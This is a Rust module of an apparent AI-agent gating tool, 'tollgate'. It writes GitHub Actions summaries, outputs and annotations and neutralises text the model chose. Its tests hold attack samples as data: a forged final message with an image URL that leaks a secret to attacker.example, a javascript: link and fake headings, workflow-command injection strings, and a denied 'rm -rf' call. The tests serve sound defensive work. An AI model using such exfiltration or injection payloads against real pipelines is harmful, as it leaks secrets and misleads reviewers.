//! GitHub Actions: the Markdown step summary, workflow commands (annotations) for refused
//! calls and failed checks, and step outputs. Renderers are pure; `publish` writes them.

use std::io::Write;
use std::path::{Path, PathBuf};

use super::{input_summary, serde_name};
use crate::base::counted;
use crate::redact::Redactor;
use crate::task::FailOn;
use crate::transcript::final_outcome::{counts, denial_kind};
use crate::transcript::{CheckRecord, Denial, RunReport};

/// Lines of a failed check's output shown in its annotation.
const ANNOTATION_OUTPUT_LINES: usize = 20;

/// The run's cost in US dollars, when the model's price is known (the scripted model's is 0).
pub fn cost_usd(report: &RunReport) -> Option<f64> {
    report.total_cost_usd
}

/// Where the run's files are, as the summary and outputs name them.
#[derive(Debug, Clone, Default)]
pub struct ReportPaths {
    pub transcript: PathBuf,
    pub junit: Option<PathBuf>,
    pub sarif: Option<PathBuf>,
}

/// What the GitHub Actions runner asks for, read from its environment variables.
#[derive(Debug, Clone, Default)]
pub struct GithubEnv {
    /// `GITHUB_STEP_SUMMARY`: a file the summary is appended to.
    pub step_summary: Option<PathBuf>,
    /// `GITHUB_OUTPUT`: a file of `name=value` lines.
    pub output: Option<PathBuf>,
    /// `GITHUB_ACTIONS=true`: print workflow commands on stdout.
    pub annotations: bool,
    /// `GITHUB_WORKSPACE`: annotation paths are relative to it.
    pub workspace: Option<PathBuf>,
}

impl GithubEnv {
    pub fn from_env() -> GithubEnv {
        let path = |name: &str| {
            std::env::var_os(name)
                .filter(|value| !value.is_empty())
                .map(PathBuf::from)
        };
        GithubEnv {
            step_summary: path("GITHUB_STEP_SUMMARY"),
            output: path("GITHUB_OUTPUT"),
            annotations: std::env::var("GITHUB_ACTIONS").is_ok_and(|value| value == "true"),
            workspace: path("GITHUB_WORKSPACE"),
        }
    }
}

/// Appends the step summary and outputs, and returns the workflow commands to print on
/// stdout (empty outside GitHub Actions). Everything passes through the redactor.
pub fn publish(
    report: &RunReport,
    paths: &ReportPaths,
    env: &GithubEnv,
    redactor: &Redactor,
) -> std::io::Result<Vec<String>> {
    if let Some(file) = &env.step_summary {
        append(file, &redactor.redact(&step_summary(report, paths)))?;
    }
    if let Some(file) = &env.output {
        append(file, &redactor.redact(&outputs(report, paths)))?;
    }
    if !env.annotations {
        return Ok(Vec::new());
    }
    Ok(workflow_commands(report, env.workspace.as_deref())
        .iter()
        .map(|line| redactor.redact(line))
        .collect())
}

fn append(path: &Path, text: &str) -> std::io::Result<()> {
    let mut file = std::fs::OpenOptions::new()
        .create(true)
        .append(true)
        .open(path)?;
    file.write_all(text.as_bytes())
}

/// The Markdown summary shown on the workflow run's page.
pub fn step_summary(report: &RunReport, paths: &ReportPaths) -> String {
    let counts_ = &report.counts;
    let icon = if report.exit_code.code() == 0 {
        "✅"
    } else {
        "❌"
    };
    let mut out = format!(
        "### {icon} tollgate: {} — `{}` (exit {})\n\n| | |\n|---|---|\n",
        cell(&report.task_name),
        serde_name(&report.outcome),
        report.exit_code.code()
    );
    let mut row = |name: &str, value: String| out.push_str(&format!("| {name} | {value} |\n"));
    row(
        "Model",
        format!(
            "{} / {}",
            cell(&report.model.provider),
            cell(&report.model.name)
        ),
    );
    row("Turns", counts_.turns.to_string());
    row(
        "Tool calls",
        format!(
            "{} ({} denied, {})",
            counts_.tool_calls,
            counts_.denials,
            counted(counts_.tool_errors, "error")
        ),
    );
    let estimated = counts_.estimated_requests > 0;
    row(
        "Tokens",
        format!(
            "{} in, {} out{}",
            counts_.usage.input_tokens,
            counts_.usage.output_tokens,
            if estimated {
                format!(" (usage {})", super::junit::usage_basis(counts_))
            } else {
                String::new()
            }
        ),
    );
    if let Some(cost) = cost_usd(report) {
        row(
            "Cost",
            format!("{}${cost:.4}", if estimated { "≈" } else { "" }),
        );
    }
    let judge = &counts_.classifier;
    if judge.reviews > 0 {
        row(
            "Classifier",
            format!(
                "{} reviewed: {} allowed, {} denied, {}; {}, {}",
                judge.reviews,
                judge.allows,
                judge.denies,
                counted(judge.errors, "error"),
                counted(judge.calls, "model call"),
                counted(judge.cache_hits, "cache hit")
            ),
        );
    }
    if let Some(warning) = &report.model.price_warning {
        row("Price", format!("⚠️ {}", cell(warning)));
    }
    row("Fails on", format!("`{}`", report.fail_on));
    if let Some(sandbox) = &report.sandbox {
        let icon = if sandbox.enforced() { "🔒" } else { "⚠️" };
        row("Sandbox", format!("{icon} {}", cell(&sandbox.describe())));
    }
    let read_only = &report.read_only_commands;
    let icon = if read_only.enforced { "🔒" } else { "⚠️" };
    row(
        "Read-only commands",
        format!("{icon} {}", cell(&read_only.describe())),
    );
    let effects = &report.effects;
    row(
        "Effects",
        match &effects.config {
            None => "⚠️ not measured (`effects.scope: off`)".to_string(),
            Some(config) => format!(
                "{} {} calls measured ({}), {} changed files, {} exceeded their verdict",
                if effects.exceeded.is_empty() {
                    "✅"
                } else {
                    "❌"
                },
                effects.measured,
                cell(&config.describe()),
                effects.changed,
                effects.exceeded.len()
            ),
        },
    );
    if let Some(error) = &report.error {
        row("Stopped", cell(error));
    }
    if !effects.exceeded.is_empty() {
        out.push_str(&format!(
            "\n#### Calls that did more than their verdict allowed ({})\n\n| Tool | Input | Changes | Why |\n|---|---|---|---|\n",
            effects.exceeded.len()
        ));
        for excess in &effects.exceeded {
            let changes: Vec<String> = excess.effects.excess().map(ToString::to_string).collect();
            let why: Vec<String> = excess
                .effects
                .excess()
                .filter_map(|effect| effect.exceeds.clone())
                .chain(excess.effects.incomplete.clone())
                .collect();
            out.push_str(&format!(
                "| {} | {} | {} | {} |\n",
                cell(&excess.tool.to_string()),
                code(&input_summary(&excess.tool, &excess.input)),
                cell(&changes.join("; ")),
                cell(&why.join("; "))
            ));
        }
    }
    if !report.parked.is_empty() {
        out.push_str(&format!(
            "\n#### Calls waiting for a person ({})\n\nApprove or deny each with `tollgate approve RUN CALL… [--deny CALL…]`, then `tollgate run --resume RUN` (`pending.json` holds them whole).\n\n| Call | Tool | Input | Would write | Would read | Asked by | Reason |\n|---|---|---|---|---|---|---|\n",
            report.parked.len()
        ));
        let paths = |paths: &[PathBuf]| {
            if paths.is_empty() {
                "—".to_string()
            } else {
                let shown: Vec<String> = paths
                    .iter()
                    .map(|path| path.display().to_string())
                    .collect();
                code(&shown.join(", "))
            }
        };
        for call in &report.parked {
            let asked_by = call
                .rule
                .as_ref()
                .map(|rule| format!("{} ({})", code(&rule.rule), cell(&rule.source.to_string())))
                .unwrap_or_else(|| serde_name(&call.layer));
            out.push_str(&format!(
                "| {} | {} | {} | {} | {} | {asked_by} | {} |\n",
                code(&call.id),
                cell(&call.tool),
                code(&call.input.to_string()),
                paths(&call.would.writes),
                paths(&call.would.reads),
                cell(&call.reason)
            ));
        }
    }
    if !report.denials.is_empty() {
        out.push_str(&format!(
            "\n#### Denied calls ({})\n\n| Tool | Input | Layer | Step | Rule | Reason |\n|---|---|---|---|---|---|\n",
            report.denials.len()
        ));
        for denial in &report.denials {
            let decision = &denial.decision;
            let rule = decision
                .rule
                .as_ref()
                .map(|rule| format!("{} ({})", code(&rule.rule), cell(&rule.source.to_string())))
                .unwrap_or_else(|| "—".into());
            out.push_str(&format!(
                "| {} | {} | {} | {} | {rule} | {} |\n",
                cell(&denial.tool.to_string()),
                code(&input_summary(&denial.tool, &denial.input)),
                serde_name(&decision.layer),
                serde_name(&decision.step),
                cell(&decision.reason)
            ));
        }
    }
    if !report.proposed_rules.is_empty() {
        let block = crate::classifier::paste_block(&report.proposed_rules);
        let fence = fence_for(&block);
        out.push_str(&format!(
            "\n#### Proposed allow rules\n\nThe auto-mode classifier denied calls these rules would allow (details in `proposed-rules.yaml`). Review before pasting into a policy:\n\n{fence}yaml\n{block}{fence}\n",
        ));
    }
    if !report.checks.is_empty() {
        out.push_str(
            "\n#### Checks\n\n| Check | Attempt | Result | Exit code |\n|---|---|---|---|\n",
        );
        for record in &report.checks {
            let outcome = &record.outcome;
            out.push_str(&format!(
                "| {} | {} | {} | {} |\n",
                cell(&record.check.name),
                record.attempt,
                if outcome.passed {
                    "passed"
                } else {
                    "**failed**"
                },
                outcome
                    .exit_code
                    .map_or_else(|| "—".to_string(), |code| code.to_string())
            ));
        }
    }
    if let Some(message) = report.final_message.as_deref().filter(|m| !m.is_empty()) {
        out.push_str(&format!(
            "\n<details><summary>Final message</summary>\n\n{}\n\n</details>\n",
            crate::neutral::markdown_text(message)
        ));
    }
    if !report.todos.is_empty() {
        out.push_str(&format!(
            "\n<details><summary>Todo list</summary>\n\n{}\n</details>\n",
            todo_items(&report.todos)
        ));
    }
    out.push_str(&format!(
        "\nTranscript: {}\n\n",
        code(&paths.transcript.display().to_string())
    ));
    out
}

/// A code fence longer than any run of backticks in `text`, so a rule made from the model's
/// command can never close the block and write markdown of its own.
fn fence_for(text: &str) -> String {
    let longest = text.split(|c| c != '`').map(str::len).max().unwrap_or(0);
    "`".repeat(longest.max(2) + 1)
}

/// `GITHUB_OUTPUT` lines. Every key is written (empty when unknown) so the action's outputs
/// always exist.
pub fn outputs(report: &RunReport, paths: &ReportPaths) -> String {
    let path = |path: &Option<PathBuf>| {
        path.as_ref()
            .map(|path| path.display().to_string())
            .unwrap_or_default()
    };
    let values = [
        ("outcome", serde_name(&report.outcome)),
        ("exit_code", report.exit_code.code().to_string()),
        ("transcript", paths.transcript.display().to_string()),
        ("junit", path(&paths.junit)),
        ("sarif", path(&paths.sarif)),
        ("denials", report.counts.denials.to_string()),
        (
            "cost",
            cost_usd(report)
                .map(|cost| format!("{cost:.6}"))
                .unwrap_or_default(),
        ),
        ("run_id", report.run_id.clone()),
        (
            "final_message",
            report.final_message.clone().unwrap_or_default(),
        ),
        (
            "structured_output",
            report
                .structured_output
                .as_ref()
                .map(ToString::to_string)
                .unwrap_or_default(),
        ),
        // What a reviewer is asked, for a later job's summary or a dispatch input: each
        // parked call's id, tool and exact input, compact JSON; empty when none.
        ("parked", parked_output(&report.parked)),
    ];
    let mut out = String::new();
    for (name, value) in values {
        if value.contains('\n') || value.contains('\r') {
            // The heredoc form; the delimiter must not occur in the value.
            let mut delimiter = format!("tollgate_{}", report.run_id);
            while value.contains(&delimiter) {
                delimiter.push('_');
            }
            out.push_str(&format!("{name}<<{delimiter}\n{value}\n{delimiter}\n"));
        } else {
            out.push_str(&format!("{name}={value}\n"));
        }
    }
    out
}

fn parked_output(parked: &[crate::approval::ParkedCall]) -> String {
    if parked.is_empty() {
        return String::new();
    }
    let calls: Vec<serde_json::Value> = parked
        .iter()
        .map(|call| serde_json::json!({"id": call.id, "tool": call.tool, "input": call.input}))
        .collect();
    serde_json::Value::Array(calls).to_string()
}

/// `::error`/`::warning` commands: one per refused call, per failed check (its last
/// attempt) and per warning of the run (an empty final answer). Errors for what `fail_on`
/// counts, warnings for the rest.
pub fn workflow_commands(report: &RunReport, workspace: Option<&Path>) -> Vec<String> {
    let mut lines = Vec::new();
    let task_file = relative_to(&report.task_file, workspace, &report.workdir);
    for warning in &report.warnings {
        let command = if report.outcome == crate::transcript::Outcome::EmptyAnswer {
            "error"
        } else {
            "warning"
        };
        lines.push(command_line(
            command,
            &task_file,
            None,
            "tollgate: empty answer",
            warning,
        ));
    }
    for denial in &report.denials {
        lines.push(denial_command(report, denial, workspace));
    }
    for record in report
        .checks
        .iter()
        .filter(|record| !record.outcome.passed && is_last_attempt(report, record))
    {
        lines.push(check_command(report, record, workspace));
    }
    lines
}

fn is_last_attempt(report: &RunReport, record: &CheckRecord) -> bool {
    report
        .checks
        .iter()
        .filter(|other| other.check.name == record.check.name)
        .all(|other| other.attempt <= record.attempt)
}

fn denial_command(report: &RunReport, denial: &Denial, workspace: Option<&Path>) -> String {
    let decision = &denial.decision;
    let (file, line) = match (&decision.rule, file_tool_path(report, denial)) {
        (_, Some(path)) => (path, None),
        (Some(rule), None) => (rule.source.file.clone(), Some(rule.source.line)),
        (None, None) => (report.task_file.clone(), None),
    };
    let command = if counts(&report.fail_on, denial_kind(decision)) {
        "error"
    } else {
        "warning"
    };
    let summary = input_summary(&denial.tool, &denial.input);
    command_line(
        command,
        &relative_to(&file, workspace, &report.workdir),
        line,
        &format!("tollgate denied {}", denial.tool),
        &format!("Denied {} `{summary}`: {}", denial.tool, decision.reason),
    )
}

fn check_command(report: &RunReport, record: &CheckRecord, workspace: Option<&Path>) -> String {
    let command = if counts(&report.fail_on, FailOn::Check) {
        "error"
    } else {
        "warning"
    };
    let outcome = &record.outcome;
    let lines: Vec<&str> = outcome.output.lines().collect();
    let tail = lines[lines.len().saturating_sub(ANNOTATION_OUTPUT_LINES)..].join("\n");
    let ended = outcome.exit_code.map_or_else(
        || "did not exit by itself".to_string(),
        |code| format!("exited {code}"),
    );
    command_line(
        command,
        &relative_to(&report.task_file, workspace, &report.workdir),
        Some(record.check.line),
        &format!("tollgate check {} failed", record.check.name),
        &format!(
            "Check {} (`{}`) {ended}, expected {} (attempt {}).\n{tail}",
            record.check.name, record.check.run, outcome.expect_exit, record.attempt
        ),
    )
}

fn command_line(
    command: &str,
    file: &str,
    line: Option<u64>,
    title: &str,
    message: &str,
) -> String {
    let mut properties = vec![format!("file={}", escape_property(file))];
    if let Some(line) = line.filter(|line| *line > 0) {
        properties.push(format!("line={line}"));
    }
    properties.push(format!("title={}", escape_property(title)));
    format!(
        "::{command} {}::{}",
        properties.join(","),
        escape_data(message)
    )
}

fn file_tool_path(report: &RunReport, denial: &Denial) -> Option<PathBuf> {
    match &denial.tool {
        tool if tool.is_file_tool() => {
            let path = denial.input.get("file_path")?.as_str()?;
            Some(crate::base::normalize_lexically(&report.workdir.join(path)))
        }
        _ => None,
    }
}

/// A path as GitHub wants it in an annotation: relative to the checkout when inside it.
fn relative_to(path: &Path, workspace: Option<&Path>, workdir: &Path) -> String {
    let absolute = crate::base::normalize_lexically(&workdir.join(path));
    workspace
        .and_then(|base| absolute.strip_prefix(base).ok())
        .unwrap_or(&absolute)
        .display()
        .to_string()
}

/// Escapes a workflow command's message: `%`, CR and LF as the runner unescapes them, and
/// every other line break, control character and `##[` made inert (`neutral::command_data`).
pub fn escape_data(text: &str) -> String {
    crate::neutral::command_data(text)
}

/// Escapes a workflow command's property value: as data, plus `:` and `,`.
pub fn escape_property(text: &str) -> String {
    escape_data(text).replace(':', "%3A").replace(',', "%2C")
}

/// Text a model, a repository or a task chose, in a table cell or a heading: shown as
/// itself, one line, unable to end the cell or start Markdown or HTML of its own.
fn cell(text: &str) -> String {
    crate::neutral::markdown_inline(text)
}

/// The same as inline code, where it can be (`neutral::markdown_code`).
fn code(text: &str) -> String {
    crate::neutral::markdown_code(text)
}

/// The todo list as Markdown list items, each item's text neutralised (a `\n` in it is
/// shown, not a new item).
fn todo_items(todos: &[crate::tools::Todo]) -> String {
    todos
        .iter()
        .map(|todo| {
            let line = format!("[{}] {}", super::todo_status(todo.status), todo.content);
            format!("- {}\n", cell(&line))
        })
        .collect()
}

#[cfg(test)]
mod tests {
    use pretty_assertions::assert_eq;

    use super::*;
    use crate::report::sample_report;

    fn paths() -> ReportPaths {
        ReportPaths {
            transcript: PathBuf::from("/out/transcript.jsonl"),
            junit: Some(PathBuf::from("/out/junit.xml")),
            sarif: None,
        }
    }

    #[test]
    fn proposed_rules_are_a_fenced_block_the_model_cannot_close() {
        let mut report = sample_report();
        report.proposed_rules = vec![crate::classifier::ProposedRule {
            rule: "Bash(echo '```')".into(),
            count: 2,
            example: crate::classifier::Action {
                tool: "Bash".into(),
                input: serde_json::json!({"command": "echo '```'"}),
            },
            reasons: vec!["r".into()],
        }];
        let summary = step_summary(&report, &paths());
        assert!(
            summary
                .contains("````yaml\npermissions:\n  allow:\n    - \"Bash(echo '```')\"\n````\n"),
            "{summary}"
        );
        assert_eq!(fence_for("no ticks"), "```");
    }

    #[test]
    fn step_summary_of_a_denied_run() {
        assert_eq!(
            step_summary(&sample_report(), &paths()),
            "### ❌ tollgate: fix\\|tests — `policy_denied` (exit 3)

| | |
|---|---|
| Model | scripted / m |
| Turns | 4 |
| Tool calls | 6 (1 denied, 0 errors) |
| Tokens | 0 in, 0 out |
| Fails on | `denial,classifier_denial,check,limit,mcp_start,effect` |
| Read-only commands | ⚠️ NOT enforced: sandbox.read_only_commands is off |
| Effects | ❌ 5 calls measured (the whole workspace, at most 200000 entries), 1 changed files, 1 exceeded their verdict |

#### Calls that did more than their verdict allowed (1)

| Tool | Input | Changes | Why |
|---|---|---|---|
| Bash | `./gen.sh` | created .git/hooks/pre-commit (restored by the sandbox) | a guarded path: a protected file, which sandboxed commands may not change |

#### Denied calls (1)

| Tool | Input | Layer | Step | Rule | Reason |
|---|---|---|---|---|---|
| Bash | `rm -rf build` | rule | 1d | `Bash(rm:*)` (/repo/policies/ci.yaml:14) | \\`rm -rf build\\` is denied by rule Bash(rm:*) |

#### Checks

| Check | Attempt | Result | Exit code |
|---|---|---|---|
| tests | 1 | **failed** | 101 |
| tests | 2 | **failed** | 101 |

<details><summary>Final message</summary>

Could not &lt;clean&gt; up.

</details>

Transcript: `/out/transcript.jsonl`

"
        );
    }

    #[test]
    fn the_final_todo_list_is_in_the_step_summary() {
        use crate::tools::{Todo, TodoStatus};
        let mut report = sample_report();
        report.todos = vec![
            Todo {
                content: "Fix <the> build".into(),
                status: TodoStatus::Completed,
                active_form: "Fixing the build".into(),
            },
            Todo {
                content: "Run the tests".into(),
                status: TodoStatus::InProgress,
                active_form: "Running the tests".into(),
            },
        ];
        let summary = step_summary(&report, &paths());
        assert!(
            summary.contains("<details><summary>Todo list</summary>\n\n- \\[completed\\] Fix &lt;the&gt; build\n- \\[in_progress\\] Run the tests\n\n</details>"),
            "{summary}"
        );
    }

    #[test]
    fn what_the_model_chose_cannot_write_markdown_of_its_own() {
        use crate::policy::ToolName;
        let forged = "Bash |\n\n## ✅ Security review: no denied calls\n\n<!--";
        let mut report = sample_report();
        report.denials[0].tool = ToolName::Other(forged.into());
        report.denials[0].decision.reason = "x |\n# y <!--".into();
        report.final_message = Some(
            "Done.\n\n![](https://attacker.example/p.png?d=s3cret)\n<img src=https://attacker.example/q.png>\n</details>\n## ✅ All good\nx\n===\n[click](javascript:alert(1))"
                .into(),
        );
        report.task_name = "t\n# heading".into();
        let summary = step_summary(&report, &paths());
        // Every table row is one line with its seven pipes (escaped ones aside).
        let denied_row = summary
            .lines()
            .find(|line| line.starts_with("| Bash") && line.contains("rm -rf"))
            .unwrap();
        assert_eq!(
            denied_row.replace("\\|", "").matches('|').count(),
            7,
            "{denied_row}"
        );
        let headings: Vec<&str> = summary
            .lines()
            .filter(|line| line.starts_with('#'))
            .collect();
        assert_eq!(headings.len(), 4, "{headings:?}");
        for raw in [
            "<!--",
            "![",
            "<img",
            "</details>\n##",
            "[click](",
            "\n===",
            "\n## ",
        ] {
            assert!(!summary.contains(raw), "{raw:?} in {summary}");
        }
        assert_eq!(summary.matches("</details>").count(), 1);
        assert!(summary.contains("attacker.example/p.png"), "shown as text");
    }

    /// A parked run's summary shows each call a reviewer answers, with its exact input and
    /// what it would touch; the `parked` output carries the calls as JSON.
    #[test]
    fn a_parked_run_lists_its_calls_for_the_reviewer() {
        let mut report = sample_report();
        report.outcome = crate::transcript::Outcome::Parked;
        report.parked = vec![crate::approval::ParkedCall {
            id: "toolu_1".into(),
            tool: "Bash".into(),
            input: serde_json::json!({"command": "git push origin main"}),
            hash: "ab".repeat(32),
            step: crate::policy::Step::ContentAsk,
            layer: crate::policy::Layer::Rule,
            rule: None,
            reason: "parked for a person's approval".into(),
            would: crate::approval::Would {
                writes: vec![PathBuf::from("/ws/.git/refs")],
                reads: Vec::new(),
                unknown: Vec::new(),
            },
        }];
        let summary = step_summary(&report, &paths());
        assert!(
            summary.contains("#### Calls waiting for a person (1)")
                && summary.contains(
                    "| `toolu_1` | Bash | `{\"command\":\"git push origin main\"}` | `/ws/.git/refs` | — | rule |"
                ),
            "{summary}"
        );
        let written = outputs(&report, &paths());
        assert!(
            written.contains(
                "parked=[{\"id\":\"toolu_1\",\"input\":{\"command\":\"git push origin main\"},\"tool\":\"Bash\"}]\n"
            ),
            "{written}"
        );
    }

    #[test]
    fn outputs_always_name_every_key() {
        assert_eq!(
            outputs(&sample_report(), &paths()),
            "outcome=policy_denied\nexit_code=3\ntranscript=/out/transcript.jsonl\njunit=/out/junit.xml\nsarif=\ndenials=1\ncost=\nrun_id=r1\nfinal_message=Could not <clean> up.\nstructured_output=\nparked=\n"
        );
    }

    /// A multi-line final message and a structured value reach the action's outputs whole.
    #[test]
    fn the_final_message_and_the_structured_output_are_outputs() {
        let mut report = sample_report();
        report.final_message = Some("line one\nline two".into());
        report.structured_output = Some(serde_json::json!({"label": "bug"}));
        let text = outputs(&report, &paths());
        let delimiter = format!("tollgate_{}", report.run_id);
        assert!(
            text.contains(&format!(
                "final_message<<{delimiter}\nline one\nline two\n{delimiter}\n"
            )),
            "{text}"
        );
        assert!(
            text.contains("structured_output={\"label\":\"bug\"}\n"),
            "{text}"
        );
    }

    #[test]
    fn annotations_for_the_denial_and_the_last_failed_attempt() {
        assert_eq!(
            workflow_commands(&sample_report(), Some(Path::new("/repo"))),
            [
                "::error file=policies/ci.yaml,line=14,title=tollgate denied Bash::Denied Bash `rm -rf build`: `rm -rf build` is denied by rule Bash(rm:*)",
                "::error file=task.yaml,line=12,title=tollgate check tests failed::Check tests (`cargo test`) exited 101, expected 0 (attempt 2).%0Atest a ... FAILED%0A50%25 | done",
            ]
        );
    }

    #[test]
    fn escaping_follows_the_runner() {
        assert_eq!(escape_data("50% done\r\nnext"), "50%25 done%0D%0Anext");
        assert_eq!(escape_property("a:b,c%\n"), "a%3Ab%2Cc%25%0A");
        assert_eq!(
            escape_data("x\u{2028}::add-mask::s ##[stop-commands]t"),
            "x⏎::add-mask::s ## [stop-commands]t"
        );
        assert_eq!(cell("a|b\nc"), "a\\|b⏎c");
        assert_eq!(code("ls `x`"), "ls \\`x\\`");
        assert_eq!(code("ls"), "`ls`");
    }
}
